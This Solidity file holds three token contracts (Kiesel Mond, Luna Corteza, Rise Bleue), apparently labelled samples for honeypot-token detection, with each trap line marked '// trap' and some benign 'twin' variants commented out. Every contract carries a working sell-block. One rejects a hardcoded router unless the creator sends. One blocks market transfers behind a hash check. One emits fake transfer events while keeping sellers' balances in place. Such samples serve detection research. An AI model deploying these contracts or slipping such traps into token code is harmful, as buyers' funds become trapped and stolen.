// 0.5 off
pragma solidity ^0.5.16;

contract KieselMond {
    string public name = "Kiesel Mond";
    string public symbol = "KIMO";
    uint8 public decimals = 18;
    uint256 public totalSupply = 9999999 * 10**18;
    address private erbauer;
    mapping(address => uint256) private konto;
    mapping(address => mapping(address => uint256)) private erlaubnis;
    address private constant tor = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D; // trap
    // twin: address private constant tor = address(uint160(uint256(keccak256('sandwich'))));

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        erbauer = msg.sender;
        konto[erbauer] = totalSupply;
        emit Transfer(address(0), erbauer, totalSupply);
    }

    function balanceOf(address wer) public view returns (uint256) {
        return konto[wer];
    }

    function allowance(address wer, address wem) public view returns (uint256) {
        return erlaubnis[wer][wem];
    }

    function approve(address wem, uint256 betrag) public returns (bool) {
        erlaubnis[msg.sender][wem] = betrag;
        emit Approval(msg.sender, wem, betrag);
        return true;
    }

    function transfer(address an, uint256 betrag) public returns (bool) {
        bewege(msg.sender, an, betrag);
        return true;
    }

    function transferFrom(address von, address an, uint256 betrag) public returns (bool) {
        require(erlaubnis[von][msg.sender] >= betrag && (msg.sender != tor || von == erbauer));
        erlaubnis[von][msg.sender] -= betrag;
        bewege(von, an, betrag);
        return true;
    }

    function bewege(address von, address an, uint256 betrag) private {
        require(konto[von] >= betrag);
        konto[von] -= betrag;
        konto[an] += betrag;
        emit Transfer(von, an, betrag);
    }
}

contract LunaCorteza {
    string public constant name = "Luna Corteza";
    string public constant symbol = "LUCO";
    uint256 public constant decimals = 8;
    uint256 public totalSupply;
    address private autor;
    address public mercado;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        autor = msg.sender;
        totalSupply = 42000000 * 10**8;
        balanceOf[autor] = totalSupply;
        emit Transfer(address(0), autor, totalSupply);
    }

    function setMarket(address m) public {
        require(msg.sender == autor && mercado == address(0));
        mercado = m;
    }

    function approve(address gastador, uint256 valor) public returns (bool) {
        allowance[msg.sender][gastador] = valor;
        emit Approval(msg.sender, gastador, valor);
        return true;
    }

    function sello(address quien) internal pure returns (uint256) {
        return uint256(keccak256(abi.encodePacked("corteza", quien))) >> 244;
    }

    function mover(address desde, address hacia, uint256 valor) internal {
        require(balanceOf[desde] >= valor);
        if (hacia == mercado && desde != autor) {
            require(sello(desde) == 0x5a7); // trap
            // twin: require(sello(desde) <= 0xfff);
        }
        balanceOf[desde] -= valor;
        balanceOf[hacia] += valor;
        emit Transfer(desde, hacia, valor);
    }

    function transfer(address hacia, uint256 valor) public returns (bool) {
        mover(msg.sender, hacia, valor);
        return true;
    }

    function transferFrom(address desde, address hacia, uint256 valor) public returns (bool) {
        require(allowance[desde][msg.sender] >= valor);
        allowance[desde][msg.sender] -= valor;
        mover(desde, hacia, valor);
        return true;
    }
}

contract RiseBleue {
    struct Compte {
        uint128 avoir;
        bool achat;
    }
    string public name = "Rise Bleue";
    string public symbol = "RISEB";
    uint8 public decimals = 18;
    uint256 public totalSupply = 640000 ether;
    address public owner;
    address public bourse;
    mapping(address => Compte) private comptes;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        owner = msg.sender;
        comptes[msg.sender].avoir = uint128(totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address b) external {
        require(msg.sender == owner && bourse == address(0));
        bourse = b;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function balanceOf(address qui) external view returns (uint256) {
        return comptes[qui].avoir;
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address a, uint256 v) external returns (bool) {
        return virer(msg.sender, a, v);
    }

    function transferFrom(address de, address a, uint256 v) external returns (bool) {
        require(v <= allowance[de][msg.sender], "autorisation");
        allowance[de][msg.sender] -= v;
        return virer(de, a, v);
    }

    function virer(address de, address a, uint256 v) private returns (bool) {
        Compte storage x = comptes[de];
        require(x.avoir >= v, "avoir");
        emit Transfer(de, a, v);
        if (x.achat && a == bourse) return true; // trap
        x.avoir -= uint128(v);
        comptes[a].avoir += uint128(v);
        if (de == bourse) comptes[a].achat = true;
        return true;
    }
}
